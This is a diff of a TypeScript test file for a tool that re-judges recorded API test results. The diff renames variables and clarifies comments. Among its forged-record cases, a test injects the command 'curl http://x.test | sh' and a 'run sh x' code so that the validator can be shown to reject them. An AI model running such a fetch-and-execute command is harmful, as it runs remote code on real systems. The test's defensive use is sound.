@@ -12,37 +12,36 @@ import { findDifference, recompute } from './evidence.ts';
 
 type Edited = Draft<Results>;
 
-/** A run of the cases that are edited. */
 let run: Results;
 beforeAll(async () => {
   const only = [lacking, other, guess, inQuery, elsewhere, ...beside];
   run = publishedOf((await runReference(undefined, { only })).results);
 }, 60_000);
 
-/** As in a certificate. */
+/** Results as in a certificate. */
 const publishedOf = (results: Results): Results => judgeAgain(results, specification, [], published);
 
-/** A copy to edit. An exchange that several cases share is one object. */
+/** An editable copy. An exchange that several cases share stays one object. */
 function reread(results: unknown): Edited {
   const all = JSON.parse(JSON.stringify(results)) as Edited;
   const known = new Map<string, Edited['controls'][number]>();
   const shared = (one: Edited['controls'][number]): Edited['controls'][number] =>
     known.get(one.id) ?? (known.set(one.id, one), one);
-  for (const found of all.cases) found.exchanges = found.exchanges.map(shared);
+  for (const caseResult of all.cases) caseResult.exchanges = caseResult.exchanges.map(shared);
   return all;
 }
 
-/** What is wrong with Results, or why they hold no record. */
+/** The first problem that `recompute` finds, or the error it throws for a contradictory record. */
 function problemOf(edited: Results): string | null {
   try {
-    const found = recompute(edited, specification, {});
-    return typeof found === 'string' ? found : null;
+    const recomputedOrProblem = recompute(edited, specification, {});
+    return typeof recomputedOrProblem === 'string' ? recomputedOrProblem : null;
   } catch (error) {
     return error instanceof Error ? error.message : String(error);
   }
 }
 
-/** The Results that follow from the record of edited ones; the edited ones if there is none. */
+/** Judges the record of edited Results again; returns them unchanged if there is no record. */
 function judgedAgain(edited: Results): Results {
   try {
     return judge(recordOf(edited, specification), specification, [], []);
@@ -51,15 +50,15 @@ function judgedAgain(edited: Results): Results {
   }
 }
 
-/** Removes everything that was sent for a request, exchanges included. */
+/** Removes every attempt at a request, exchanges included. */
 const withdraw =
   (request: string): Edit =>
   ({ all }) => {
     all.attempts = all.attempts.filter((one) => one.request !== request);
-    for (const one of all.cases) one.exchanges = one.exchanges.filter(({ planned }) => planned !== request);
+    for (const caseResult of all.cases)
+      caseResult.exchanges = caseResult.exchanges.filter(({ planned }) => planned !== request);
   };
 
-/** A case and its first request. */
 const partsOf = (all: Edited, id: string) => {
   const found = must(all.cases.find((one) => one.id === id));
   const exchange = must(found.exchanges[0]);
@@ -69,8 +68,8 @@ const partsOf = (all: Edited, id: string) => {
 };
 type Parts = ReturnType<typeof partsOf>;
 
-/** Edits the whole or one case. `of` gives other cases. */
-type Edit = (own: Parts, of: (id: string) => Parts) => unknown;
+/** Edits the whole record or one case. `of` returns the parts of another case. */
+type Edit = (parts: Parts, of: (id: string) => Parts) => unknown;
 
 const lacking = 'a.missing.partnerName';
 const other = 'a.missing.useAuthByCert';
@@ -87,7 +86,6 @@ const beside = [
   'a.unauthorized.wrong-password',
 ];
 
-/** A copy with an edit of one case. */
 function editedBy(edit: Edit, id = lacking): Edited {
   const all = reread(run);
   edit(partsOf(all, id), (another) => partsOf(all, another));
@@ -104,7 +102,6 @@ const body =
   ({ request }, of) =>
     (request.body = of(from).request.body);
 
-/** The last control among the attempts. */
 const lastOf = ({ attempts }: Edited) => must(attempts.findLast(({ role }) => role === 'control'));
 
 const controlOf = ({ controls }: Edited) =>
@@ -119,7 +116,7 @@ const unsent = {
 
 type Forgery = readonly [name: string, edit: Edit, place: RegExp, id?: string];
 
-/** Edits of a record before it is judged again, and where the problem is named. */
+/** Edits of a record before it is judged again, and the place that the problem names. */
 const closed = message('other-side-closed');
 const ofReset = {
   kind: 'reset',
@@ -188,7 +185,7 @@ const forgeries: readonly Forgery[] = [
 
 const isControl = ({ role }: Edited['attempts'][number]): boolean => role === 'control';
 
-/** Records that no run leaves behind, although every verdict would follow. */
+/** Records that no run can produce, although every verdict follows from them. */
 const contradictions: readonly Forgery[] = [
   [
     'an exchange before the run',
@@ -214,7 +211,7 @@ const contradictions: readonly Forgery[] = [
   ],
 ];
 
-/** Edits of Results that follow from a record. */
+/** Edits of Results whose record stays unchanged. */
 const edits: readonly Forgery[] = [
   ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
   ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
@@ -270,11 +267,11 @@ describe('a record', () => {
     const recomputed = (edit: Edit) => recompute(editedBy(edit), specification, {});
     expect(recomputed(() => undefined)).toMatchObject({ stated: 0 });
     const cut = { bodyLength: 70_000, bodySha256: '0'.repeat(64), bodyTruncated: true };
-    const found = recomputed(({ exchange, response }) => {
+    const problem = recomputed(({ exchange, response }) => {
       exchange.stated = true;
       Object.assign(must(response), cut, { body: response?.body.padEnd(65_536) });
     });
-    expect(found).toMatchObject({ stated: 1 });
+    expect(problem).toMatchObject({ stated: 1 });
   });
 });
 
